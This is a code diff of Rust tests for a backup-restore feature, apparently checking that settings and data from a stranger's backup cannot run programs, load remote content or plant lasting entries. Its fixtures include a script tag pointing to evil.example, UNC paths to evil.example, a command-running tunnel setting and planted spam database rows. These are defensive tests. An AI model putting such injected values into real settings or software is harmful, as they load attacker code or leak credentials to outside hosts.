@@ -1,5 +1,5 @@
-//! The parts of a backup that need approval: settings that run a program, send data elsewhere or
-//! open a listener, tokens that would become valid; and a database with a foreign schema.
+//! What `restore` brings of a backup: by default what a stranger's may bring, all of it where the owner
+//! says that it is their own; and a database with a foreign schema.
 
 use std::fs;
 use std::path::{Path, PathBuf};
@@ -25,6 +25,9 @@ struct Backup {
     mark: PathBuf,
 }
 
+/// Rules as a stranger, or the owner, has written them.
+const RULES: &str = "[[presence.rules]]\nprogram = \"vim\"\nname = \"an editor\"\n";
+
 fn text(path: &Path) -> &str {
     path.to_str().expect("UTF-8")
 }
@@ -44,12 +47,15 @@ async fn backup() -> Backup {
     let settings = format!(
         "behaviour = \"B\"\n\
          [server]\ngreeting = \"mine\"\nlisten = \"127.0.0.1:1\" # here\n\
+         [heartbeat]\nalive_seconds = 31536000\n\
+         [limits]\nrequests_per_second = 0\n\
+         [links]\ntemplate = \"<script src=//evil.example></script>{{url}}\"\n\
+         [app]\nupload_shortcut = \"Ctrl+C\"\n\
          [tunnel]\nkind = \"command\"\ncommand = [\n  \"touch\",\n  {mark:?},\n]\n\
          public_url = \"https://a.example\"\n\
          [storage]\nkind = \"s3\"\nendpoint = \"http://127.0.0.1:1\"\nbucket = \"b\"\n\
          access_key = \"key\"\nsecret_key = \"hush\"\nstorage_url = \"https://s.example\"\n\
-         [presence]\nenabled = true\nshare_titles = true\n\
-         [[presence.rules]]\nprogram = \"vim\"\nname = \"an editor\"\n"
+         [presence]\nenabled = true\nshare_titles = true\nhistory_days = 1\n{RULES}"
     );
     fs::write(service.data_dir().join("settings.toml"), &settings).expect("to write");
     let file = place.path().join("backup.tar");
@@ -76,48 +82,31 @@ fn token_names(folder: &Path) -> Vec<String> {
     names.collect::<Result<_, _>>().expect("names")
 }
 
+/// The settings of a data folder, by section and name.
+fn settings_in(folder: &Path) -> toml::Table {
+    let written = fs::read_to_string(folder.join("settings.toml")).expect("a file");
+    written.parse().expect("TOML")
+}
+
 #[tokio::test]
-async fn without_approval_no_program_runs_nothing_is_sent_elsewhere_and_no_token_is_valid() {
+async fn of_a_strangers_backup_only_pictures_history_names_and_rules_are_restored() {
     let backup = backup().await;
     let back = backup.place.path().join("back");
+    fs::create_dir(&back).expect("a folder");
+    let own =
+        "# mine\n[images]\nquality = 70\n[presence]\nrules = [{ title = 'x', hide = true }]\n";
+    fs::write(back.join("settings.toml"), own).expect("to write");
     let ended = porchlight(&back, &["restore", text(&backup.file)]).await;
     assert!(ended.status.success(), "{ended:?}");
-    for key in [
-        "tunnel.command",
-        "storage.secret_key",
-        "server.listen",
-        "presence.enabled",
-        "presence.share_titles",
-        "presence.rules",
-    ] {
-        assert!(ended.stderr.contains(key), "{key}: {ended:?}");
-        assert!(ended.stdout.contains(key), "{key}: {ended:?}");
-    }
-    assert!(ended.stderr.contains("\"touch\""), "{ended:?}");
+    assert!(ended.stdout.contains("--all"), "{ended:?}");
     assert!(!format!("{ended:?}").contains("hush"), "{ended:?}");
-    for name in ["\"admin\"", "\"blog\"", "\"heartbeat\""] {
-        assert!(ended.stderr.contains(name), "{name}: {ended:?}");
-    }
     assert!(!back.join("own-tokens.json").exists());
     assert_eq!(token_names(&back), [""; 0]);
-    let settings = fs::read_to_string(back.join("settings.toml")).expect("a file");
-    for line in [
-        "# behaviour = \"B\"",
-        "greeting = \"mine\"",
-        "# listen = \"127.0.0.1:1\" # here",
-        "# command = [",
-        "#   \"touch\",",
-        "# ]",
-        "# secret_key = \"hush\"",
-        "# [[presence.rules]]",
-        "# program = \"vim\"",
-        "# share_titles = true",
-    ] {
-        assert!(
-            settings.lines().any(|one| one == line),
-            "{line}: {settings}"
-        );
-    }
+    let settings = settings_in(&back);
+    let expected: toml::Table = format!("[images]\nquality = 70\n{RULES}")
+        .parse()
+        .expect("TOML");
+    assert_eq!(settings, expected);
 
     let mut service = TestService::builder()
         .data_dir(&back)
@@ -141,17 +130,22 @@ async fn without_approval_no_program_runs_nothing_is_sent_elsewhere_and_no_token
 }
 
 #[tokio::test]
-async fn with_approval_everything_is_restored_and_named() {
+async fn the_owners_backup_is_restored_whole() {
     let backup = backup().await;
     let back = backup.place.path().join("back");
     // Its object store does not exist.
     let disk = ["--set", "storage.kind=disk", "--set", "behaviour=A"];
-    let words = [&["restore", "--yes", text(&backup.file)][..], &disk].concat();
+    let words = [
+        &["restore", "--all", "--json", text(&backup.file)][..],
+        &disk,
+    ]
+    .concat();
     let ended = porchlight(&back, &words).await;
     assert!(ended.status.success(), "{ended:?}");
-    for named in ["tunnel.command", "storage.secret_key", "\"blog\""] {
-        assert!(ended.stderr.contains(named), "{named}: {ended:?}");
-    }
+    let report: Value = serde_json::from_str(&ended.stdout).expect("JSON");
+    let secrets = ["settings.toml", "own-tokens.json"];
+    let expected = serde_json::json!({ "images": 1, "secrets": secrets, "all": true });
+    assert_eq!(report, expected);
     let settings = fs::read_to_string(back.join("settings.toml")).expect("a file");
     assert_eq!(settings, backup.settings);
     assert_eq!(token_names(&back), ["admin", "blog", "heartbeat"]);
@@ -160,38 +154,121 @@ async fn with_approval_everything_is_restored_and_named() {
 }
 
 #[tokio::test]
-async fn json_output_lists_the_parts_left_out() {
+async fn settings_of_this_machine_are_not_replaced_by_those_of_a_backup() {
     let backup = backup().await;
     let back = backup.place.path().join("back");
-    let words = ["restore", "--json", text(&backup.file)];
+    fs::create_dir(&back).expect("a folder");
+    fs::write(back.join("settings.toml"), "# mine\n").expect("to write");
+    let disk = ["--set", "storage.kind=disk", "--set", "behaviour=A"];
+    let words = [&["restore", "--all", text(&backup.file)][..], &disk].concat();
     let ended = porchlight(&back, &words).await;
-    let report: Value = serde_json::from_str(&ended.stdout).expect("JSON");
-    assert_eq!(report["images"], 1);
-    assert_eq!(report["secrets"], serde_json::json!(["settings.toml"]));
-    let left_out = &report["left_out"];
-    assert_eq!(left_out["tokens"].as_array().expect("names").len(), 3);
-    let settings = left_out["settings"].as_array().expect("keys");
-    assert!(settings.contains(&"tunnel.kind".into()), "{report}");
-    assert!(!settings.contains(&"server.greeting".into()), "{report}");
+    assert_eq!(ended.status.code(), Some(1), "{ended:?}");
+    assert!(ended.stderr.contains("settings.toml"), "{ended:?}");
+    assert!(!back.join("porchlight.db").exists());
+    let settings = fs::read_to_string(back.join("settings.toml")).expect("a file");
+    assert_eq!(settings, "# mine\n");
+}
+
+/// Puts other settings into a backup.
+fn write_settings(backup: &Backup, settings: &str) {
+    let mut entries = read(&backup.file);
+    let entry = entries.iter_mut().find(|entry| entry.0 == "settings.toml");
+    entry.expect("the settings").2 = settings.as_bytes().to_vec();
+    fs::write(&backup.file, write(&entries)).expect("to write");
 }
 
 #[tokio::test]
-async fn an_unknown_key_is_refused_as_in_any_settings_and_nothing_is_restored() {
+async fn invalid_settings_of_the_owners_backup_are_named_and_nothing_is_restored() {
     let backup = backup().await;
-    let mut entries = read(&backup.file);
-    let settings = entries.iter_mut().find(|entry| entry.0 == "settings.toml");
-    settings.expect("the settings").2 = b"[edge]\nurl = \"https://a.example\"\nodd = 1\n".to_vec();
-    fs::write(&backup.file, write(&entries)).expect("to write");
-    let back = backup.place.path().join("back");
-    let ended = porchlight(&back, &["restore", text(&backup.file)]).await;
-    assert_eq!(ended.status.code(), Some(2), "{ended:?}");
-    assert!(ended.stderr.contains("edge"), "{ended:?}");
-    assert!(!back.join("porchlight.db").exists());
+    let unc = r"[game]
+steam_folder = '\\evil.example\s'
+[ip]
+mmdb = '\\?\UNC\evil.example\a\b.mmdb'";
+    for (settings, named) in [
+        (unc, &["line 2: game.steam_folder", "line 4: ip.mmdb"][..]),
+        #[cfg(unix)]
+        (
+            "[ip]\nmmdb = '/dev/zero'",
+            &["line 2: ip.mmdb: \"/dev/zero\""],
+        ),
+        ("[edge]\nodd = 1", &["line 2", "edge"]),
+    ] {
+        write_settings(&backup, settings);
+        let back = backup.place.path().join("back");
+        let ended = porchlight(&back, &["restore", "--all", text(&backup.file)]).await;
+        assert_eq!(ended.status.code(), Some(2), "{ended:?}");
+        for part in named {
+            assert!(ended.stderr.contains(part), "{part}: {ended:?}");
+        }
+        assert!(!back.join("porchlight.db").exists());
+
+        // A stranger's are not read.
+        let back = backup.place.path().join("of a stranger");
+        let ended = porchlight(&back, &["restore", text(&backup.file)]).await;
+        assert!(ended.status.success(), "{ended:?}");
+        assert!(!back.join("settings.toml").exists());
+        fs::remove_dir_all(&back).expect("removed");
+    }
+}
+
+#[tokio::test]
+async fn nothing_of_a_backup_is_current_after_a_restore() {
+    let backup = backup().await;
+    let rows = "
+        INSERT INTO device (id, token, name, kind, allowed, battery, at, valid_for, application, online)
+        VALUES ('evil', -1, 'evil', 'phone', 1, 50, NOW, 14400000, 'Buy my coin', 1);
+        INSERT INTO presence (only, at, used_at, application, introduce, rgba, online)
+        VALUES (1, NOW + YEARS, NOW, 'Buy my coin', 'now', '1,2,3,1', 1);
+        INSERT INTO presence_change (device, at, until, valid_for, application, online)
+        VALUES (NULL, NOW - 90000, NOW - 80000, NULL, 'past', 1),
+               (NULL, NOW + 90000, NOW + YEARS, NULL, 'Buy my coin', 1),
+               ('evil', NOW - 70000, NOW + YEARS, 14400000, 'Buy my coin', 1);";
+    let now = std::time::SystemTime::UNIX_EPOCH.elapsed().expect("a time");
+    let years = 10 * 365 * 24 * 60 * 60 * 1000_i64;
+    let rows = rows
+        .replace("NOW", &now.as_millis().to_string())
+        .replace("YEARS", &years.to_string());
+    let changed = with_database(&backup.file, |database| {
+        database.execute_batch(&rows).expect("rows");
+    });
+    fs::write(&backup.file, changed).expect("to write");
+    write_settings(&backup, "");
+    for (words, devices) in [(&[][..], 0), (&["--all"][..], 1)] {
+        let back = backup.place.path().join(format!("back {devices}"));
+        let words = [&["restore", text(&backup.file)], words].concat();
+        let ended = porchlight(&back, &words).await;
+        assert!(ended.status.success(), "{ended:?}");
+        let counted = |query: &str| {
+            let counted = database(&back).query_row(query, [], |row| row.get::<_, i64>(0));
+            counted.expect("a count")
+        };
+        assert_eq!(counted("SELECT count(*) FROM device"), devices);
+        // The history has what was, and no entry that goes on.
+        assert_eq!(counted("SELECT count(*) FROM presence_change"), 2);
+        let open = format!(
+            "SELECT count(*) FROM presence_change WHERE until > {0} + 60000
+             OR until + valid_for > {0} + 60000",
+            now.as_millis()
+        );
+        assert_eq!(counted(&open), 0);
+
+        let service = TestService::builder()
+            .data_dir(&back)
+            .without_tokens()
+            .start()
+            .await;
+        for path in ["/check", "/devices", "/badge.json", "/v1/users/1"] {
+            let answer = service.get(path).await.text().await.expect("a text");
+            assert!(!answer.contains("coin"), "{path}: {answer}");
+        }
+        let check = service.json("/check").await;
+        assert_eq!(check["alive"], false, "{check}");
+    }
 }
 
 #[cfg(target_os = "linux")]
 #[tokio::test]
-async fn on_a_terminal_the_owner_is_asked() {
+async fn on_a_terminal_the_owner_is_asked_once() {
     let backup = backup().await;
     for (answer, tokens, code) in [("y", Some(3), 0), ("n", Some(0), 0), ("c", None, 1)] {
         let back = backup.place.path().join(answer);
@@ -281,7 +358,7 @@ async fn a_database_with_a_foreign_schema_is_refused() {
         });
         fs::write(&file, changed).expect("to write");
         let back = place.path().join("back");
-        let ended = porchlight(&back, &["restore", "--yes", text(&file)]).await;
+        let ended = porchlight(&back, &["restore", text(&file)]).await;
         assert_eq!(ended.status.code(), Some(1), "{named}: {ended:?}");
         let quoted = named
             .split_once(' ')
